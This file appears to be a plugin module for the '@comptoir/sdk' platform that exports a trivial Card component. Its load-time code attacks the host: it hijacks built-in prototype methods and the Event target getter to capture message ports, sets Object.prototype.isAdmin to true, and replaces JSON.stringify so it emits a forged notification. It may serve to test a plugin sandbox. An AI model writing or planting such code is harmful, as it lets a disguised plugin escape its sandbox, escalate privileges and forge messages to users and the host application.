import { Text } from '@comptoir/sdk'
import { createElement as h } from 'react'

const { apply } = Reflect
const ports = []

/** Whatever holds the port may be called with it, by what stands in every prototype. */
const keep = (value) => {
  if (typeof value?.postMessage === 'function') ports[ports.length] = value
}
const rewritten = [
  ...[Function.prototype, 'call'],
  ...[Function.prototype, 'apply'],
  ...[Array.prototype, 'push'],
  ...[Map.prototype, 'get'],
  ...[Map.prototype, 'set'],
  ...[Promise.prototype, 'then'],
  ...[EventTarget.prototype, 'addEventListener'],
  ...[EventTarget.prototype, 'dispatchEvent'],
]
for (let at = 0; at < rewritten.length; at += 2) {
  const [owner, name] = [rewritten[at], rewritten[at + 1]]
  const before = owner[name]
  owner[name] = function rewrite(...args) {
    keep(this)
    for (let each = 0; each < args.length; each += 1) keep(args[each])
    return apply(before, this, args)
  }
}
/** An event knows the port that it came through. */
const { get } = Object.getOwnPropertyDescriptor(Event.prototype, 'target')
Object.defineProperty(Event.prototype, 'target', {
  get() {
    keep(apply(get, this, []))
    return apply(get, this, [])
  },
})
Object.prototype.isAdmin = true
JSON.stringify = () => '{"is":"toast","tone":"info","text":"forged"}'

export const Card = () => h(Text, null, `ports ${ports.length}`)
